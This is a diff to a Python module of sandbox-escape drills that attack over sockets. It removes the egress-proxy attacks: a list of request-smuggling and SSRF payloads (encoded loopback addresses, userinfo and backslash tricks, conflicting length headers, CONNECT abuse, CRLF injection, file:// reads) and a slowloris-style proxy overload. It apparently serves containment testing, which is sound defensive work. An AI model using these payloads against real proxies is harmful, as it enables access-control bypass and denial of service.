@@ -1,27 +1,23 @@
-"""Attacks over sockets: the control socket, services of the host, its loopback, and the egress proxy."""
+"""Attacks over sockets: the control socket, services of the host, its loopback."""
 
 from __future__ import annotations
 
 import contextlib
 import json
-import os
 import re
 import socket
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from functools import partial
 from pathlib import Path
-from urllib.parse import urlsplit
 
-from remit.drills.attacks.target import Seen, Target, attempt, attempts
+from remit.drills.attacks.target import Seen, Target, attempts
 
 __all__ = [
     "ask_abstract_sockets",
     "ask_control_socket",
     "ask_services",
     "forge_resume",
-    "overload_proxy",
     "reach_loopback",
-    "smuggle_requests",
 ]
 
 SERVICES = (
@@ -113,95 +109,3 @@ def ask_name_server(address: str) -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
         line.connect((address, 53))
         line.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\1a\0\0\1\0\1")
-
-
-def proxy() -> tuple[str, int] | None:
-    """Where the egress proxy listens."""
-    named = urlsplit(os.environ.get("HTTP_PROXY", ""))
-    return (named.hostname, named.port or 80) if named.hostname else None
-
-
-def through_proxy(data: bytes, most: int = 65536) -> bytes:
-    """Send bytes to the egress proxy and return what comes back; raises ``OSError``."""
-    place = proxy()
-    if place is None:
-        raise FileNotFoundError(2, "there is no proxy")
-    answer = b""
-    with socket.create_connection(place, 2.0) as line:
-        line.settimeout(1.5)
-        line.sendall(data)
-        with contextlib.suppress(TimeoutError):
-            while len(answer) < most and (part := line.recv(4096)):
-                answer += part
-    return answer
-
-
-def requests_of(target: Target) -> Iterator[tuple[str, bytes]]:
-    """Requests that name a host that is granted and mean one that is not: ``ports`` are granted, then forbidden."""
-    good, bad = target.ports[0], target.ports[-1]
-    granted, forbidden = f"127.0.0.1:{good}", f"127.0.0.1:{bad}"
-    end = "\r\n\r\n"
-    plain = f"GET http://{forbidden}/stolen HTTP/1.1\r\nHost: {forbidden}\r\nConnection: close{end}"
-    yield "the forbidden host", plain.encode()
-    yield (
-        "another host header",
-        f"GET http://{granted}/ HTTP/1.1\r\nHost: {forbidden}\r\nConnection: close{end}".encode(),
-    )
-    yield "a name that is an address", plain.replace("127.0.0.1", "127.1").encode()
-    yield "hexadecimal", plain.replace("127.0.0.1", "0x7f000001").encode()
-    yield "decimal", plain.replace("127.0.0.1", "2130706433").encode()
-    yield "mapped", plain.replace("127.0.0.1", "[::ffff:127.0.0.1]").encode()
-    yield "localhost", plain.replace("127.0.0.1", "localhost").encode()
-    yield "a name of the account", plain.replace(f"http://{forbidden}", f"http://{granted}@{forbidden}").encode()
-    yield "a backslash", plain.replace(f"http://{forbidden}", f"http://{granted}\\@{forbidden}").encode()
-    yield (
-        "CONNECT",
-        f"CONNECT {forbidden} HTTP/1.1\r\nHost: {granted}{end}GET /stolen HTTP/1.1\r\nHost: x{end}".encode(),
-    )
-    yield "CONNECT to the granted one", f"CONNECT {granted} HTTP/1.1\r\nHost: {forbidden}{end}{plain}".encode()
-    body = f"GET http://{granted}/ HTTP/1.1\r\nHost: {granted}\r\n"
-    yield "two lengths", f"{body}Content-Length: 0\r\nContent-Length: {len(plain)}{end}{plain}".encode()
-    yield "length and chunks", f"{body}Content-Length: 4\r\nTransfer-Encoding: chunked{end}0{end}{plain}".encode()
-    yield "odd chunks", f"{body}Transfer-Encoding: xchunked{end}0{end}{plain}".encode()
-    yield "a second request", f"{body.rstrip()}{end}{plain}".encode()
-    yield "a folded header", f"{body}X: a\r\n Host: {forbidden}{end}".encode()
-    yield "a bare line feed", f"{body}X: a\nHost: {forbidden}{end}".encode()
-    yield "a line break in the path", f"GET http://{granted}/%0d%0aHost:%20{forbidden} HTTP/1.1{end}".encode()
-    yield "FTP", plain.replace("http://", "ftp://").encode()
-    yield "a file", plain.replace(f"http://{forbidden}", f"file://{target.secret}").encode()
-
-
-def smuggle_requests(target: Target) -> Seen:
-    """Reaches a host it was not granted through the proxy: spellings, mixed host names, smuggled second requests."""
-    outcomes = []
-    for name, data in requests_of(target):
-        try:
-            answer = through_proxy(data)
-        except OSError as error:
-            answer = str(error).encode()
-        outcomes.append((b"forbidden ground" in answer, f"{name} {answer[:12].decode('latin-1')!r}"))
-    return Seen(succeeded=any(stolen for stolen, _ in outcomes), seen=", ".join(text for _, text in outcomes)[:600])
-
-
-def overload_proxy(target: Target) -> Seen:
-    """Breaks the proxy: headers without end, thousands of them, many connections at once, half requests."""
-    if proxy() is None:
-        return Seen(succeeded=False, seen="there is no proxy to break")
-    endless = b"GET http://127.0.0.1/ HTTP/1.1\r\nX: " + b"a" * 4_000_000
-    many = b"GET http://127.0.0.1/ HTTP/1.1\r\n" + b"X: a\r\n" * 100_000
-    outcomes = [attempt(partial(through_proxy, data)) or "answered" for data in (endless, many, b"\0" * 100_000)]
-    lines: list[socket.socket] = []
-    for _ in range(300):
-        with contextlib.suppress(OSError):
-            lines.append(socket.create_connection(proxy() or ("", 0), SOON))
-            lines[-1].sendall(b"GET ")
-    target.rest(0.5)
-    for line in lines:
-        line.close()
-    granted = f"127.0.0.1:{target.ports[0]}"
-    alive = f"GET http://{granted}/ HTTP/1.1\r\nHost: {granted}\r\nConnection: close\r\n\r\n"
-    answer: list[bytes] = []
-    refusal = attempt(lambda: answer.append(through_proxy(alive.encode())))
-    dead = not answer or b"granted ground" not in answer[0]
-    seen = f"{', '.join(outcomes)}; {len(lines)} half requests; afterwards {refusal or answer[0][:15]!r}"
-    return Seen(succeeded=dead, seen=seen)
